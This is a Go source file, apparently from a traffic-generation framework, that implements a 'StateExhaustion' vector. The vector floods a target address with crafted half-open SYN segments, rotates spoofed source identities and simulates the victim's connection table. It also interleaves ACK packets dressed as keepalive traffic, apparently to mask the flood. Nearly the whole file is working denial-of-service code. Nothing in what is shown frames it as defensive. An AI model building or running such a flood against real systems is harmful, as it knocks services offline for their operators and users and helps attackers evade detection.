package vector

import (
	"context"
	"fmt"

	"github.com/gofeint/gofeint/core/behavior"
	"github.com/gofeint/gofeint/core/connstate"
	"github.com/gofeint/gofeint/core/emit"
	"github.com/gofeint/gofeint/core/events"
	"github.com/gofeint/gofeint/core/metrics"
	"github.com/gofeint/gofeint/core/rotation"
	"github.com/gofeint/gofeint/pkg/entropy"
	"github.com/gofeint/gofeint/pkg/logging"
)

// ackProbability is how often a simulated response arrives for a tracked
// handshake, leaving the record deliberately half-open.
const ackProbability = 0.3

// StateExhaustion floods the target with crafted half-open handshake
// segments, rotating source identities and tracking the simulated
// connection state for each.
type StateExhaustion struct {
	*loop
	target  Target
	rotator *rotation.Rotator
	conns   *connstate.Simulator
	builder *emit.SYNBuilder
}

// NewStateExhaustion wires the technique from its leaves.
func NewStateExhaustion(target Target, rotator *rotation.Rotator, conns *connstate.Simulator,
	timing *behavior.Model, emitter emit.Emitter, counters *metrics.Vector,
	logger logging.Logger, sink events.Sink, rng *entropy.Source) (*StateExhaustion, error) {
	if rotator == nil || conns == nil {
		return nil, fmt.Errorf("state-exhaustion requires a rotator and a connection simulator")
	}
	if !target.Addr.IsValid() {
		return nil, fmt.Errorf("state-exhaustion requires a resolved target address")
	}
	l, err := newLoop(NameStateExhaustion, timing, emitter, counters, logger, sink, rng)
	if err != nil {
		return nil, err
	}
	builder, err := emit.NewSYNBuilder(rng)
	if err != nil {
		return nil, err
	}
	return &StateExhaustion{
		loop:    l,
		target:  target,
		rotator: rotator,
		conns:   conns,
		builder: builder,
	}, nil
}

// Name implements Vector.
func (v *StateExhaustion) Name() string {
	return NameStateExhaustion
}

// Run implements Vector.
func (v *StateExhaustion) Run(ctx context.Context, state StateReader) {
	v.loop.run(ctx, state, v.step)
}

func (v *StateExhaustion) step(_ context.Context, snap Snapshot, attack bool) (*emit.Unit, error) {
	v.rotator.SetSpeed(snap.RotationSpeed)
	v.conns.Sweep()

	addr := v.rotator.Next()
	rec := v.conns.Open(addr)

	// Some tracked handshakes receive a simulated response so the state
	// population mixes SYN_SENT, HALF_OPEN, and TIMED_OUT like a real
	// victim's table would.
	if v.rng.Chance(ackProbability) {
		v.conns.OnResponse(rec, connstate.SignalAck)
	}

	if !attack {
		// Filler resembles an established flow's keepalive rather than a
		// new handshake.
		payload, err := v.builder.BuildAck(rec, v.target.Addr, v.target.Port)
		if err != nil {
			return nil, err
		}
		return &emit.Unit{
			Kind:    emit.KindFiller,
			Payload: payload,
			Source:  addr.Addr,
			Dest:    v.target.Host,
		}, nil
	}

	payload, err := v.builder.BuildSYN(rec, v.target.Addr, v.target.Port)
	if err != nil {
		return nil, err
	}
	return &emit.Unit{
		Kind:    emit.KindSYN,
		Payload: payload,
		Source:  addr.Addr,
		Dest:    v.target.Host,
	}, nil
}
